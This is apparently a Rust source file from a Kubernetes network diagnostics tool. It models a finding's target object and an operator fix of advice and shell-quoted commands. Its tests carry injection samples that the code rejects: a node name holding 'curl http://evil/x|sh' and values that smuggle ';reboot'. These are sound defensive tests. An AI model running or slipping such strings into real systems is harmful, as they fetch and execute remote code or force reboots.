//! The object that a finding accuses, and what would mend it.

use std::fmt;

use serde::{Deserialize, Deserializer, Serialize, Serializer};

use crate::printable::{Printable, is_object_name};

/// The most steps that are read of a written [`Fix`].
const MOST_STEPS: usize = 256;

/// What kind of object an [`Element`] is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum ElementKind {
    /// An address of a link.
    Address,
    /// A `clusters.kosmos.io` object, or a cluster as a whole.
    Cluster,
    /// A `clusternodes.kosmos.io` object.
    ClusterNode,
    /// A forwarding row of a VXLAN link.
    Fdb,
    /// A rule of a packet filter, or the policy of one of its chains.
    Filter,
    /// A network link.
    Link,
    /// An address translation.
    Nat,
    /// A neighbour row.
    Neighbour,
    /// A node.
    Node,
    /// A `nodeconfigs.kosmos.io` object.
    NodeConfig,
    /// The responder of a floater.
    Responder,
    /// A route.
    Route,
    /// A policy rule.
    Rule,
    /// A kernel setting.
    Sysctl,
    /// The network between clusters.
    Underlay,
}

impl ElementKind {
    /// The word of the JSON.
    #[must_use]
    pub const fn word(self) -> &'static str {
        match self {
            Self::Address => "address",
            Self::Cluster => "cluster",
            Self::ClusterNode => "clusternode",
            Self::Fdb => "fdb",
            Self::Filter => "filter",
            Self::Link => "link",
            Self::Nat => "nat",
            Self::Neighbour => "neighbour",
            Self::Node => "node",
            Self::NodeConfig => "nodeconfig",
            Self::Responder => "responder",
            Self::Route => "route",
            Self::Rule => "rule",
            Self::Sysctl => "sysctl",
            Self::Underlay => "underlay",
        }
    }
}

/// The object that is the cause.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct Element {
    /// The cluster's name; none outside of every cluster.
    pub cluster: Option<Printable>,
    /// The node's name; none where it belongs to no node.
    pub node: Option<Printable>,
    /// What it is.
    pub kind: ElementKind,
    /// Its name, for example `10.21.0.0/16 table 200`.
    pub name: Printable,
}

impl Element {
    /// `cluster/node kind name`, as far as there is one.
    #[must_use]
    pub fn place(&self) -> String {
        let mut place = match (&self.cluster, &self.node) {
            (Some(cluster), Some(node)) => format!("{cluster}/{node}"),
            (Some(cluster), None) => cluster.to_string(),
            _ => "outside".to_owned(),
        };
        if self.kind != ElementKind::Node {
            place.push_str(&format!(" {} {}", self.kind.word(), self.name));
        }
        place
    }
}

/// What an operator would do about a finding, step by step; the program never does it. The words of a command are kept
/// apart, so that no name from outside can become a command of its own; they are quoted when they are printed.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Fix {
    steps: Vec<Step>,
}

/// One step of a [`Fix`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Step {
    /// Something to look at or to decide, in a sentence without a full stop.
    Advice(Printable),
    /// A program with its arguments.
    Command {
        /// `cluster/node`; none where it is run at the operator's own machine.
        place: Option<Printable>,
        /// The program and its arguments, one word each.
        argv: Vec<String>,
    },
}

impl Fix {
    /// A sentence alone.
    #[must_use]
    pub fn advice(text: &str) -> Self {
        Self::default().and_advice(text)
    }

    /// One command at a node. Where the cluster's or node's name is not one that Kubernetes gives, or a word holds a control
    /// character, it is not a command that anybody should run: then it says where to look.
    #[must_use]
    pub fn at<W: Into<String>>(
        cluster: &str,
        node: &str,
        argv: impl IntoIterator<Item = W>,
    ) -> Self {
        Self::default().and_at(cluster, node, argv)
    }

    /// One more command at a node.
    #[must_use]
    pub fn and_at<W: Into<String>>(
        mut self,
        cluster: &str,
        node: &str,
        argv: impl IntoIterator<Item = W>,
    ) -> Self {
        let argv: Vec<String> = argv.into_iter().map(Into::into).collect();
        let is_clean = argv
            .iter()
            .all(|word| !word.chars().any(crate::printable::is_dangerous));
        if is_object_name(cluster) && is_object_name(node) && is_clean {
            self.steps.push(Step::Command {
                place: Some(Printable::new(&format!("{cluster}/{node}"))),
                argv,
            });
            return self;
        }
        self.and_advice("look at the node yourself: a name in this finding is not one that Kubernetes allows, so no command is printed")
    }

    /// One more command at the operator's own machine.
    #[must_use]
    pub fn and_here<W: Into<String>>(mut self, argv: impl IntoIterator<Item = W>) -> Self {
        self.steps.push(Step::Command {
            place: None,
            argv: argv.into_iter().map(Into::into).collect(),
        });
        self
    }

    /// One more sentence.
    #[must_use]
    pub fn and_advice(mut self, text: &str) -> Self {
        self.steps.push(Step::Advice(Printable::new(text)));
        self
    }

    /// The steps, in order.
    #[must_use]
    pub fn steps(&self) -> &[Step] {
        &self.steps
    }
}

/// One line; commands are quoted for a POSIX shell.
impl fmt::Display for Fix {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for (at, step) in self.steps.iter().enumerate() {
            if at > 0 {
                f.write_str("; then ")?;
            }
            match step {
                Step::Advice(text) => f.write_str(text)?,
                Step::Command { place, argv } => {
                    if let Some(place) = place {
                        write!(f, "on {place}: ")?;
                    }
                    f.write_str(&quoted(argv))?;
                }
            }
        }
        Ok(())
    }
}

/// A step as JSON has it.
#[derive(Serialize, Deserialize)]
#[serde(untagged)]
enum WrittenStep {
    Advice {
        advice: Printable,
    },
    Command {
        place: Option<Printable>,
        argv: Vec<Printable>,
    },
}

/// A fix as JSON has it: one line for a person, the steps for a program.
#[derive(Serialize, Deserialize)]
struct Written {
    fix: String,
    #[serde(default)]
    fix_steps: Vec<WrittenStep>,
}

/// `fix`, one line, and `fix_steps`.
impl Serialize for Fix {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        let steps = self.steps.iter().map(|step| match step {
            Step::Advice(text) => WrittenStep::Advice {
                advice: text.clone(),
            },
            Step::Command { place, argv } => WrittenStep::Command {
                place: place.clone(),
                argv: argv.iter().map(|word| Printable::new(word)).collect(),
            },
        });
        Written {
            fix: self.to_string(),
            fix_steps: steps.collect(),
        }
        .serialize(serializer)
    }
}

/// Steps out of a report are held to the same rules as those that are made here.
impl<'de> Deserialize<'de> for Fix {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        let written = Written::deserialize(deserializer)?;
        if written.fix_steps.is_empty() {
            return Ok(Self::advice(&written.fix));
        }
        let steps = written.fix_steps.into_iter().take(MOST_STEPS);
        Ok(steps.fold(Self::default(), |fix, step| match step {
            WrittenStep::Advice { advice } => fix.and_advice(&advice),
            WrittenStep::Command { place, argv } => {
                let argv = argv.into_iter().map(String::from);
                match place {
                    Some(place) => {
                        let (cluster, node) = place.split_once('/').unwrap_or((&place, ""));
                        fix.and_at(cluster, node, argv)
                    }
                    None => fix.and_here(argv),
                }
            }
        }))
    }
}

/// A command line of a POSIX shell that means exactly these words.
#[must_use]
pub fn quoted(argv: &[String]) -> String {
    let words: Vec<String> = argv
        .iter()
        // A NUL cannot be quoted and cannot be part of an argument either.
        .map(|word| {
            shlex::try_quote(word).map_or_else(|_| "''".to_owned(), std::borrow::Cow::into_owned)
        })
        .collect();
    words.join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_never_becomes_a_command() {
        let evil = "n1: curl http://evil/x|sh #";
        let fix = Fix::at("c1", evil, ["ip", "link", "set", "vx-bridge", "up"]);
        assert!(matches!(fix.steps(), [Step::Advice(_)]));
        let fix = Fix::at("c1", "n1", ["sysctl", "-w", "a=1;reboot"]);
        assert_eq!(fix.to_string(), "on c1/n1: sysctl -w 'a=1;reboot'");
    }

    #[test]
    fn steps_are_printed_in_order() {
        let fix = Fix::at("c1", "n1", ["ip", "link", "set", "vx-bridge", "up"])
            .and_advice("start the datapath's agent");
        assert_eq!(
            fix.to_string(),
            "on c1/n1: ip link set vx-bridge up; then start the datapath's agent"
        );
    }

    #[test]
    fn what_is_read_back_prints_the_same_and_names_no_stranger() {
        let fix = Fix::at("c1", "n1", ["ip", "link", "set", "vx-bridge", "up"])
            .and_here(["kubectl", "get", "nodes"])
            .and_advice("start the datapath's agent");
        let json = serde_json::to_value(&fix).expect("a fix");
        assert_eq!(json["fix"], fix.to_string());
        assert_eq!(serde_json::from_value::<Fix>(json).expect("a fix"), fix);
        let evil = serde_json::json!({"fix": "x", "fix_steps": [{"place": "c1/n1;reboot", "argv": ["ip"]}]});
        let read: Fix = serde_json::from_value(evil).expect("a fix");
        assert!(matches!(read.steps(), [Step::Advice(_)]));
        let old: Fix = serde_json::from_value(serde_json::json!({"fix": "look"})).expect("a fix");
        assert_eq!(old, Fix::advice("look"));
    }

    #[test]
    fn words_of_json_are_the_words() {
        for kind in [
            ElementKind::ClusterNode,
            ElementKind::NodeConfig,
            ElementKind::Fdb,
        ] {
            assert_eq!(
                serde_json::to_value(kind).expect("a word"),
                serde_json::Value::from(kind.word())
            );
        }
    }
}
